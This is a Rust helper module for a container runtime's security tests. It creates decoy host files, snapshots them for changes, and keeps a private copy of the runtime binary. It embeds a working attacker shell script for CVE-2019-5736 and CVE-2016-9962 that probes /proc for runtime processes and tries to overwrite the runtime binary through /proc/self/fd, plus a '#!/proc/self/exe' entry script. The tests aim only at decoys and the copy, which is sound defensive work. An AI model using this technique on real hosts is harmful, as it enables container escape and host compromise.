//! Helpers for the security group (`tests/security*.rs`): decoy "victim" files that attacks aim
//! at, a private copy of the runtime binary, running a workload while accepting a refusal, and
//! the in-container attacker script used for CVE-2019-5736 and CVE-2016-9962.
//!
//! Every decoy lives in a fresh temp dir registered with the test's [`Ctx`], so nothing an attack
//! could reach is a real host path.

use crate::bundle::temp_dir;
use crate::runner::{runtime_path, Ctx, Output};
use crate::Bundle;
use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};

/// Describes every entry under `p` (not following symlinks): type, mode, owner, size, inode and,
/// for files, the first 4 KiB of content; for symlinks, the target; for devices, the rdev.
pub fn snapshot(p: &Path) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    walk(p, p, &mut out);
    out
}

fn walk(base: &Path, p: &Path, out: &mut BTreeMap<String, String>) {
    let rel = p.strip_prefix(base).unwrap_or(p).display().to_string();
    let Ok(m) = fs::symlink_metadata(p) else {
        out.insert(rel, "absent".into());
        return;
    };
    let ft = m.file_type();
    let head = format!("mode={:o} uid={} gid={} ino={}", m.mode(), m.uid(), m.gid(), m.ino());
    let desc = if ft.is_symlink() {
        format!(
            "symlink -> {}",
            fs::read_link(p).map(|t| t.display().to_string()).unwrap_or_default()
        )
    } else if ft.is_dir() {
        format!("dir {head}")
    } else if ft.is_file() {
        let data = fs::read(p).unwrap_or_default();
        let shown = String::from_utf8_lossy(&data[..data.len().min(4096)]).into_owned();
        format!("file {head} size={} content={shown:?}", m.len())
    } else if ft.is_char_device() || ft.is_block_device() {
        format!("device {head} rdev={:x}", m.rdev())
    } else {
        format!("other {head}")
    };
    out.insert(rel, desc);
    if ft.is_dir() {
        let mut names: Vec<PathBuf> = fs::read_dir(p)
            .map(|rd| rd.flatten().map(|e| e.path()).collect())
            .unwrap_or_default();
        names.sort();
        for n in names {
            walk(base, &n, out);
        }
    }
}

/// Mount points (field 5 of mountinfo) at or under `path` in the mount table `mountinfo`.
pub fn mountpoints_under(mountinfo: &str, path: &str) -> Vec<String> {
    let path = path.trim_end_matches('/');
    mountinfo
        .lines()
        .filter_map(|l| l.split_whitespace().nth(4))
        .filter(|mp| *mp == path || mp.starts_with(&format!("{path}/")))
        .map(String::from)
        .collect()
}

/// A "victim" on the host side: a temp dir, a file in one, or a path that must not come to exist.
/// [`Decoy::check`] says whether anything under it changed or got a mount.
pub struct Decoy {
    /// What the attack points at.
    pub path: PathBuf,
    /// What is snapshotted (the dir holding `path`, or `path` itself for dirs).
    watch: PathBuf,
    before: BTreeMap<String, String>,
}

impl Decoy {
    /// A fresh host dir holding one file `DECOY-MARKER`.
    pub fn dir(ctx: &Ctx, tag: &str) -> Decoy {
        let d = temp_dir(&format!("decoy-{tag}"));
        ctx.own_dir(d.clone());
        fs::write(d.join("DECOY-MARKER"), "host decoy, must stay untouched\n").unwrap();
        Decoy::watching(d.clone(), d)
    }

    /// A host file `<fresh dir>/victim` with known content.
    pub fn file(ctx: &Ctx, tag: &str) -> Decoy {
        let d = temp_dir(&format!("decoy-{tag}"));
        ctx.own_dir(d.clone());
        let f = d.join("victim");
        fs::write(&f, "HOST-DECOY-CONTENT\n").unwrap();
        fs::set_permissions(&f, fs::Permissions::from_mode(0o644)).unwrap();
        Decoy::watching(f, d)
    }

    /// A host path `<fresh dir>/must-not-exist` that does not exist and must not be created.
    pub fn missing(ctx: &Ctx, tag: &str) -> Decoy {
        let d = temp_dir(&format!("decoy-{tag}"));
        ctx.own_dir(d.clone());
        Decoy::watching(d.join("must-not-exist"), d)
    }

    fn watching(path: PathBuf, watch: PathBuf) -> Decoy {
        let before = snapshot(&watch);
        Decoy { path, watch, before }
    }

    /// Takes the "before" snapshot again (after the test filled the decoy).
    pub fn rebaseline(&mut self) {
        self.before = snapshot(&self.watch);
    }

    pub fn path_str(&self) -> String {
        self.path.display().to_string()
    }

    /// Err describing the damage if anything under the decoy changed, or a mount sits on or
    /// under it in the host's mount table.
    pub fn check(&self) -> Result<(), String> {
        let mut errs = Vec::new();
        let after = snapshot(&self.watch);
        if after != self.before {
            let mut diff = Vec::new();
            for (k, v) in &after {
                if self.before.get(k) != Some(v) {
                    diff.push(format!("  now    {k}: {v}"));
                }
            }
            for (k, v) in &self.before {
                if after.get(k) != Some(v) {
                    diff.push(format!("  before {k}: {v}"));
                }
            }
            errs.push(format!(
                "host decoy {} was changed:\n{}",
                self.watch.display(),
                diff.join("\n")
            ));
        }
        let mi = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
        let m = mountpoints_under(&mi, &self.watch.display().to_string());
        if !m.is_empty() {
            errs.push(format!("mounts on the host decoy in the host's namespace: {m:?}"));
        }
        if errs.is_empty() {
            Ok(())
        } else {
            Err(errs.join("\n"))
        }
    }
}

/// What became of a workload the attack might make the runtime refuse.
#[derive(Debug)]
pub enum Outcome {
    /// `create` or `start` failed (a refusal: acceptable for most attacks); the failing output.
    Refused(String),
    /// The container ran to completion.
    Ran { stdout: String, stderr: String },
}

impl Outcome {
    pub fn stdout(&self) -> &str {
        match self {
            Outcome::Ran { stdout, .. } => stdout,
            Outcome::Refused(_) => "",
        }
    }
}

/// create + start + wait for `stopped`; a failing create/start gives [`Outcome::Refused`] (the
/// container is force-deleted).
pub fn run_or_refuse(ctx: &Ctx, b: &Bundle, id: &str) -> Outcome {
    run_or_refuse_with(ctx, b, id, &[])
}

pub fn run_or_refuse_with(ctx: &Ctx, b: &Bundle, id: &str, create_extra: &[&str]) -> Outcome {
    let c = ctx.create(b, id, create_extra);
    if !c.success() {
        return Outcome::Refused(c.to_string());
    }
    let s = ctx.start(id);
    if !s.success() {
        ctx.delete_force(id);
        return Outcome::Refused(format!("{s}\n--- container stderr:\n{}", c.stderr_now()));
    }
    ctx.wait_status(id, "stopped");
    let o = Outcome::Ran {
        stdout: c.stdout_now(),
        stderr: c.stderr_now(),
    };
    ctx.delete(id);
    o
}

/// create + start, leaving the container running; Err with the failing output on refusal.
pub fn start_or_refuse(ctx: &Ctx, b: &Bundle, id: &str) -> Result<Output, String> {
    let c = ctx.create(b, id, &[]);
    if !c.success() {
        return Err(c.to_string());
    }
    let s = ctx.start(id);
    if !s.success() {
        ctx.delete_force(id);
        return Err(s.to_string());
    }
    Ok(c)
}

/// A private copy of the runtime binary in a temp dir (CVE-2019-5736 tests attack the copy,
/// never the real binary). Removed on drop: declare it before the [`Ctx`] that uses it.
pub struct RuntimeCopy {
    dir: PathBuf,
    pub path: PathBuf,
    original: Vec<u8>,
}

impl RuntimeCopy {
    pub fn new() -> RuntimeCopy {
        let dir = temp_dir("rtcopy");
        let src = runtime_path();
        let path = dir.join(src.file_name().expect("runtime file name"));
        fs::copy(&src, &path).unwrap_or_else(|e| panic!("copy {}: {e}", src.display()));
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
        let original = fs::read(&path).unwrap();
        RuntimeCopy { dir, path, original }
    }

    /// Whether the copy's bytes differ from what was copied.
    pub fn modified(&self) -> bool {
        fs::read(&self.path).map(|d| d != self.original).unwrap_or(true)
    }

    /// Puts the original bytes back (rename over, so a busy file is no obstacle), for cleanup.
    pub fn restore(&self) {
        let tmp = self.dir.join(".restore");
        fs::write(&tmp, &self.original).unwrap();
        fs::set_permissions(&tmp, fs::Permissions::from_mode(0o755)).unwrap();
        fs::rename(&tmp, &self.path).unwrap();
    }
}

impl Default for RuntimeCopy {
    fn default() -> Self {
        RuntimeCopy::new()
    }
}

impl Drop for RuntimeCopy {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.dir);
    }
}

/// The attacker, run as `sh /attack.sh SECONDS` inside a container. It scans its pid namespace
/// for processes that are not its own busybox applets (so: a runtime process entering the
/// container, via `exec` or as the init of a container joining this pid namespace) and, once per
/// such pid:
/// - CVE-2016-9962: tries to read `/proc/PID/exe`, list `/proc/PID/fd`, list `/proc/PID/cwd/`
///   and `/proc/PID/root/`; a process still running the runtime must be non-dumpable, so all of
///   these must fail. Each success is reported only if the comm did not change meanwhile (else
///   the process had already exec'd the workload, which is then legitimately dumpable).
/// - CVE-2019-5736: keeps `/proc/PID/exe` open (fd 3 of a background subshell) and keeps trying
///   to reopen it for appending through `/proc/self/fd/3` for 5 s (the write succeeds once the
///   binary is no longer executing if what it reached is the runtime's on-disk file).
///
/// Busybox runs some applets by re-executing `/proc/self/exe` (comm "exe"): those are the
/// attacker's own children and are skipped.
///
/// It prints `READY` when scanning starts and `ATTACK-DONE` at the end.
pub const ATTACKER_SH: &str = r#"
known=" sh exe attack.sh sleep ls cat readlink grep busybox true echo head wc tr sed stat date "
end=$(( $(date +%s) + $1 ))
seen=" "
echo READY
while [ "$(date +%s)" -lt "$end" ]; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    [ "$p" = "$$" ] && continue
    case "$seen" in *" $p "*) continue ;; esac
    read -r c < "$d/comm" 2>/dev/null || continue
    case "$known" in *" $c "*) continue ;; esac
    seen="$seen$p "
    echo "CANDIDATE $p $c"
    if e=$(readlink "$d/exe" 2>/dev/null); then
      read -r c2 < "$d/comm" 2>/dev/null
      [ "$c2" = "$c" ] && echo "EXE-READABLE $p $c $e"
    fi
    # Listing fd numbers needs only DAC on the directory (root owns it either way); what a
    # dumpable process gives away is resolving them, which needs ptrace access.
    if l=$(ls "$d/fd/" 2>/dev/null); then
      for f in $l; do
        if t=$(readlink "$d/fd/$f" 2>/dev/null); then
          read -r c2 < "$d/comm" 2>/dev/null
          [ "$c2" = "$c" ] && echo "FD-LIST $p $c $f -> $t"
          break
        fi
      done
    fi
    if l=$(ls "$d/cwd/" 2>/dev/null); then
      read -r c2 < "$d/comm" 2>/dev/null
      [ "$c2" = "$c" ] && echo "CWD-LIST $p $c" $l
    fi
    if l=$(ls "$d/root/" 2>/dev/null); then
      read -r c2 < "$d/comm" 2>/dev/null
      [ "$c2" = "$c" ] && echo "ROOT-LIST $p $c" $l
    fi
    (
      exec 3< "$d/exe" 2>/dev/null || exit 0
      echo "EXE-OPENED $p $c"
      i=0
      while [ $i -lt 50 ]; do
        if printf '\n#PWNED-BY-CONTAINER\n' >> /proc/self/fd/3 2>/dev/null; then
          echo "EXE-WRITTEN $p $c"
          exit 0
        fi
        sleep 0.1
        i=$((i + 1))
      done
      echo "EXE-WRITE-FAILED $p $c"
    ) &
  done
done
wait
echo ATTACK-DONE
"#;

/// Writes [`ATTACKER_SH`] to `<rootfs>/attack.sh` and a `#!/proc/self/exe` script to
/// `<rootfs>/evil.sh` (the CVE-2019-5736 entry point).
pub fn install_attacker(b: &Bundle) {
    let r = b.rootfs();
    fs::write(r.join("attack.sh"), ATTACKER_SH).unwrap();
    fs::set_permissions(r.join("attack.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(r.join("evil.sh"), "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(r.join("evil.sh"), fs::Permissions::from_mode(0o755)).unwrap();
}
